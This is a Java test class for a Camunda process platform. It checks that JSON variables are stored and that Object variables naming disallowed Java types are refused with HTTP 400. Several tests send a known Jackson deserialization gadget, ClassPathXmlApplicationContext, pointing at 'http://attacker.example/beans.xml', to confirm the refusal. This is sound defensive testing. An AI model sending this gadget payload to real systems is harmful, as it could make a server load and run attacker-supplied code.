package org.servicecharter.platform;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;

import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.history.HistoricVariableInstance;
import org.camunda.bpm.engine.task.Task;
import org.camunda.bpm.engine.variable.value.SerializableValue;
import org.camunda.bpm.engine.variable.value.TypedValue;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.servicecharter.Http;
import org.servicecharter.ServiceCharterTest;
import org.servicecharter.platform.governance.NewProcedure;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * JSON variables: what Tasklist's forms send for checklists, tag lists and tables ({@code Json}) is stored, while
 * an {@code Object} variable naming a Java type the deserialization validator does not allow is refused with 400 —
 * through {@code /engine-rest}, by anyone, administrators included.
 */
@ServiceCharterTest
class JsonVariablesTests {

    /** A classic Jackson gadget: constructed from a JSON string, it loads a Spring XML file from any URL. */
    static final String GADGET = "org.springframework.context.support.ClassPathXmlApplicationContext";

    @LocalServerPort
    int port;

    @Autowired
    ProcessEngine engine;

    @Autowired
    RuntimeService runtimeService;

    NewProcedure procedure;
    String instanceId;

    @BeforeEach
    void anInstanceOfANewProcedure() {
        procedure = NewProcedure.fresh("json-variables");
        assertThat(procedure.deployAs(Http.as(port, "olga"), "camunda:candidateStarterGroups=\"agents\"").status()).isEqualTo(200);
        Http.Response started = Http.as(port, "bob").post("/engine-rest/process-definition/key/" + procedure.key + "/start",
                Map.of("variables", Map.of(NewProcedure.START_FIELD, Map.of("value", "Toaster T-1", "type", "String"))));
        assertThat(started.status()).as(started.body()).isEqualTo(200);
        instanceId = started.json().get("id").asText();
    }

    @Test
    void aChecklistSentAsJsonCompletesTheTask() {
        Http bob = Http.as(port, "bob");
        Task task = engine.getTaskService().createTaskQuery().processInstanceId(instanceId).singleResult();
        assertThat(bob.post("/engine-rest/task/" + task.getId() + "/claim", Map.of("userId", "bob")).status()).isEqualTo(204);

        // what Tasklist 7.24 sends when a Camunda Form with a checklist is completed
        Http.Response completed = bob.post("/engine-rest/task/" + task.getId() + "/submit-form", Map.of("variables", Map.of(
                NewProcedure.CHECKLIST, Map.of("type", "Json", "value", "[\"packaging\",\"serial\"]"),
                NewProcedure.NOTE, Map.of("type", "String", "value", "All good."))));

        assertThat(completed.status()).as(completed.body()).isIn(200, 204);
        HistoricVariableInstance checks = engine.getHistoryService().createHistoricVariableInstanceQuery().processInstanceId(instanceId)
                .variableName(NewProcedure.CHECKLIST).disableCustomObjectDeserialization().singleResult();
        assertThat(checks.getTypeName()).isEqualTo("json");
        assertThat(((SerializableValue) checks.getTypedValue()).getValueSerialized()).isEqualTo("[\"packaging\",\"serial\"]");
    }

    @Test
    void aJsonVariableIsStoredAndReadBackAsJson() {
        Http.Response put = Http.as(port, "demo").put(variable("tags"), Map.of("type", "Json", "value", "{\"tags\":[\"a\",\"b\"]}"));

        assertThat(put.status()).as(put.body()).isEqualTo(204);
        TypedValue stored = runtimeService.getVariableTyped(instanceId, "tags", false);
        assertThat(stored.getType().getName()).isEqualTo("json");
        assertThat(((SerializableValue) stored).getValueSerialized()).isEqualTo("{\"tags\":[\"a\",\"b\"]}");
        Http.Response read = Http.as(port, "demo").get(variable("tags") + "?deserializeValue=false");
        assertThat(read.json().get("type").asText()).isEqualTo("Json");
    }

    @Test
    void anObjectOfAnAllowedTypeIsStoredAsJson() {
        Http.Response put = Http.as(port, "demo").put(variable("names"), Map.of("type", "Object", "value", "[\"Ann\",\"Ben\"]",
                "valueInfo", Map.of("objectTypeName", "java.util.ArrayList<java.lang.String>", "serializationDataFormat", "application/json")));

        assertThat(put.status()).as(put.body()).isEqualTo(204);
        assertThat(runtimeService.getVariable(instanceId, "names")).isEqualTo(List.of("Ann", "Ben"));
    }

    @Test
    void anObjectNamingATypeThatMayNotBeDeserializedIsRefusedWith400EvenForAnAdministrator() {
        Http demo = Http.as(port, "demo");
        Map<String, String> refused = Map.of(
                "gadget", GADGET,
                "inList", "java.util.ArrayList<" + GADGET + ">",
                "url", "java.net.URL");
        refused.forEach((name, type) -> {
            Http.Response put = demo.put(variable(name), Map.of("type", "Object", "value", "[\"http://attacker.example/beans.xml\"]",
                    "valueInfo", Map.of("objectTypeName", type, "serializationDataFormat", "application/json")));
            assertThat(put.status()).as("%s: %s", type, put.body()).isEqualTo(400);
            assertThat(put.json().get("message").asText()).contains("not allowed");
            assertThat(runtimeService.getVariable(instanceId, name)).as(name).isNull();
        });
    }

    @Test
    void anObjectNamingATypeThatMayNotBeDeserializedRefusesTheStartAndTheCompletionWith400() {
        Map<String, Object> gadget = Map.of("type", "Object", "value", "[\"http://attacker.example/beans.xml\"]",
                "valueInfo", Map.of("objectTypeName", GADGET, "serializationDataFormat", "application/json"));
        long instancesBefore = runtimeService.createProcessInstanceQuery().processDefinitionKey(procedure.key).count();

        Http.Response start = Http.as(port, "bob").post("/engine-rest/process-definition/key/" + procedure.key + "/start",
                Map.of("variables", Map.of("evil", gadget)));
        assertThat(start.status()).as(start.body()).isEqualTo(400);
        assertThat(runtimeService.createProcessInstanceQuery().processDefinitionKey(procedure.key).count()).isEqualTo(instancesBefore);

        Http bob = Http.as(port, "bob");
        Task task = engine.getTaskService().createTaskQuery().processInstanceId(instanceId).singleResult();
        assertThat(bob.post("/engine-rest/task/" + task.getId() + "/claim", Map.of("userId", "bob")).status()).isEqualTo(204);
        Http.Response complete = bob.post("/engine-rest/task/" + task.getId() + "/submit-form", Map.of("variables", Map.of("evil", gadget)));
        assertThat(complete.status()).as(complete.body()).isEqualTo(400);
        assertThat(engine.getTaskService().createTaskQuery().taskId(task.getId()).count()).as("the task stays open").isEqualTo(1);
    }

    @Test
    void anObjectUploadedAsJsonDataNamingATypeThatMayNotBeDeserializedIsRefusedWith400() throws Exception {
        HttpResponse<String> response = uploadJson(variable("upload") + "/data", GADGET, "[\"http://attacker.example/beans.xml\"]");

        assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
        assertThat(response.body()).contains("not whitelisted for deserialization");
        assertThat(runtimeService.getVariable(instanceId, "upload")).isNull();
    }

    @Test
    void anObjectInAFormatWithoutAReaderIsRefusedWith400() {
        Http.Response put = Http.as(port, "demo").put(variable("xml"), Map.of("type", "Object", "value", "<a/>",
                "valueInfo", Map.of("objectTypeName", "java.lang.String", "serializationDataFormat", "application/xml")));

        assertThat(put.status()).as(put.body()).isEqualTo(400);
        assertThat(put.json().get("message").asText()).contains("application/xml");
    }

    private String variable(String name) {
        return "/engine-rest/process-instance/" + instanceId + "/variables/" + name;
    }

    /** The REST API's multipart variable upload: a JSON part and the Java type to read it as. */
    private HttpResponse<String> uploadJson(String path, String type, String json) throws Exception {
        String boundary = "----json" + System.nanoTime();
        String body = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"data\"; filename=\"data.json\"\r\n"
                + "Content-Type: application/json\r\n\r\n" + json + "\r\n"
                + "--" + boundary + "\r\nContent-Disposition: form-data; name=\"type\"\r\n\r\n" + type + "\r\n"
                + "--" + boundary + "--\r\n";
        HttpRequest request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
                .header("Authorization", "Basic " + Base64.getEncoder().encodeToString("demo:demo".getBytes(StandardCharsets.UTF_8)))
                .header("Content-Type", "multipart/form-data; boundary=" + boundary)
                .POST(HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8)).build();
        return HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
    }
}
